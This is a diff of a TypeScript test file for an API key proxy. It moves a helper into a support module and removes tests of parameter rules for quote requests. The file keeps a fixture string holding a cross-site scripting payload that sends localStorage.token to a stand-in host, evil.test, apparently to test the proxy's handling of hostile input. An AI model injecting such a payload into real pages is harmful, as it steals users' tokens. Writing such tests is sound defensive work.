@@ -1,40 +1,17 @@
 import { expect } from "chai";
 import fc from "fast-check";
 import {
-  type CreateKeyProxyParameters,
   createClient,
   createKeyProxy,
   defaultProxyRoutes,
   getChains,
   testnet,
 } from "../../../src/client/index.ts";
-import { quoteRequestSchema } from "../../../src/schema/quote/quoteRequest.ts";
 import { rejectionOf } from "./support/fakeService.ts";
+import { apiKey, stage } from "./support/keyProxy.ts";
 import { requestId } from "./support/samples.ts";
 
 const html = "<script>fetch('https://evil.test/?' + localStorage.token)</script>";
-
-const apiKey = 'sk-"live"\\3f1c9d';
-
-/** A proxy, the calls that it makes of the service, and a call of it: its answer's status and body. */
-function stage(
-  answer: (url: string, init: RequestInit) => Response | Promise<Response> = () => Response.json({}),
-  more: Partial<CreateKeyProxyParameters> = {},
-) {
-  const calls: { init: RequestInit; url: string }[] = [];
-  const handler = createKeyProxy({
-    apiKey,
-    baseUrl: "https://service.test/v",
-    fetch: async (url, init) => {
-      calls.push({ init, url });
-      return answer(url, init);
-    },
-    ...more,
-  });
-  const call = (path: string, init?: RequestInit) => handler(new Request(`https://app.test${path}`, init));
-  const statusOf = async (path: string, init?: RequestInit) => (await call(path, init)).status;
-  return { call, calls, handler, statusOf };
-}
 
 const contents = async (answer: Response): Promise<[number, string]> => [answer.status, await answer.text()];
 const isJson = { "content-type": "application/json" };
@@ -198,89 +175,6 @@ describe("createKeyProxy", () => {
         [500, '{"message":"The call cannot be checked"}'],
       ]);
       expect(calls).to.deep.equal([]);
-    });
-  });
-
-  describe("given rules for parameters", () => {
-    const post = (body: object) => ({ body: JSON.stringify(body), method: "POST" });
-    const sent = ({ calls }: ReturnType<typeof stage>) =>
-      calls.map(({ init }) => JSON.parse(String(init.body)));
-    const refused = [
-      ...["appFees", "depositFeePayer", "fixedRate", "maxSubsidizationAmount", "originGasOverhead"],
-      ...["referrerAddress", "sponsoredFeeComponents", "subsidizeFees", "subsidizeRent"],
-    ];
-
-    it("P2: forwards each documented parameter of a quote but those that spend or name a payee or payer", async () => {
-      const { call, calls, statusOf } = stage();
-      for (const name of Object.keys(quoteRequestSchema.shape)) {
-        const status = await statusOf("/quote/v2", post({ [name]: "1" }));
-        expect(status, name).to.equal(refused.includes(name) ? 403 : 200);
-      }
-      expect(calls).to.have.length(Object.keys(quoteRequestSchema.shape).length - refused.length);
-      const parameter = "a\u202e".repeat(99);
-      const answer = await call("/quote/v2", post({ [parameter]: 1 }));
-      expect((await answer.text()).length).to.be.lessThan(500);
-    });
-
-    it("P2: `true` and a function cover all inside their parameter; another result refuses", async () => {
-      const staged = stage(undefined, {
-        parameters: {
-          appFees: true,
-          maxSubsidizationAmount: (cap) => BigInt(String(cap)) <= 5n,
-          referrerAddress: (() => "yes") as never,
-          txs: (txs) => (txs as unknown[]).length < 2,
-        },
-      });
-      const { statusOf } = staged;
-      const appFees = [{ fee: "1", more: { of: "it" }, recipient: "0x01" }];
-      expect(await statusOf("/quote", post({ appFees, maxSubsidizationAmount: "5" }))).to.equal(200);
-      expect(await statusOf("/quote", post({ maxSubsidizationAmount: "6" }))).to.equal(403);
-      expect(await statusOf("/quote", post({ maxSubsidizationAmount: [] }))).to.equal(200);
-      expect(await statusOf("/quote", post({ maxSubsidizationAmount: {} }))).to.equal(500);
-      expect(await statusOf("/quote", post({ referrerAddress: "0x01" }))).to.equal(403);
-      expect(await statusOf("/quote", post({ txs: [{}, {}] }))).to.equal(403);
-      expect(sent(staged)[0]).to.deep.equal({ appFees, maxSubsidizationAmount: "5" });
-    });
-
-    it("P2: writes fixed values over the caller's, and into quotes and prices; no later change reaches them", async () => {
-      const appFees = [{ fee: "10", recipient: "0x01" }];
-      const staged = stage(undefined, {
-        check: ({ body }) => {
-          (body as { appFees?: unknown[] }).appFees?.push("mine");
-          return undefined;
-        },
-        parameters: {
-          appFees: { fixed: appFees },
-          "executionOptions.subsidizeFees": { fixed: false },
-          executionOptions: true,
-          referrer: { fixed: "app" },
-        },
-        routes: [...defaultProxyRoutes, "POST /execute"],
-      });
-      appFees.length = 0;
-      await staged.statusOf("/quote/v2?referrer=me", post({ appFees: [], referrer: "me" }));
-      await staged.statusOf("/price", post({}));
-      await staged.statusOf("/transactions/index", post({ referrer: "me", txHash: "0x01" }));
-      await staged.statusOf("/transactions/index", post({ txHash: "0x01" }));
-      await staged.statusOf("/execute", post({ executionOptions: { more: 1, subsidizeFees: true } }));
-      const fixed = { appFees: [{ fee: "10", recipient: "0x01" }], referrer: "app" };
-      expect(sent(staged)).to.deep.equal([
-        ...[fixed, fixed],
-        ...[{ referrer: "app", txHash: "0x01" }, { txHash: "0x01" }],
-        { executionOptions: { more: 1, subsidizeFees: false } },
-      ]);
-      expect(staged.calls[0]?.url).to.match(/\?referrer=app$/);
-    });
-
-    it("P2: one value of a repeated query name is checked and forwarded", async () => {
-      const { calls, statusOf } = stage(undefined, {
-        check: ({ query }) => (query.get("requestId") === "b" ? undefined : "another request"),
-      });
-      expect(await statusOf("/intents/status/v3?requestId=a&requestId=b")).to.equal(200);
-      expect(await statusOf("/intents/status/v3?requestId=b&requestId=a")).to.equal(400);
-      expect(calls.map(({ url }) => url)).to.deep.equal([
-        "https://service.test/v/intents/status/v3?requestId=b",
-      ]);
     });
   });
 
